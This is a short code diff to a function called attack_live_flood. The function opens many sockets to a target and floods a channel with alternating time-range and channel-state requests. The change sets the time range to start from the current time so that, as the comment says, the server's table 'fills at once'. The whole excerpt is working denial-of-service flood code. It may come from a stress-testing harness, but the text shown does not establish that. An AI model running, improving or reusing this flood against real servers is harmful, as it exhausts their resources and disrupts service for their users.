@@ -103,7 +103,8 @@ def attack_live_flood(address, size, stop, info):
     sk = Sockets(address)
     sk.open(conns, stop)
     for s in sk.socks:
-        live = (M.TimeRangeRequest(random_req_id(rng), info["channel"], 0, 0, 0) if i % 2 else M.ChannelStateRequest(random_req_id(rng), info["channel"], 1) for i in range(each))
+        now = int(time.time() * 1000)  # live time ranges from now: the table fills at once
+        live = (M.TimeRangeRequest(random_req_id(rng), info["channel"], now, 0, 0) if i % 2 else M.ChannelStateRequest(random_req_id(rng), info["channel"], 1) for i in range(each))
         sk.queue(s, b"".join(M.encode(m) for m in live))
     while not stop.wait(0.02):
         sk.pump()
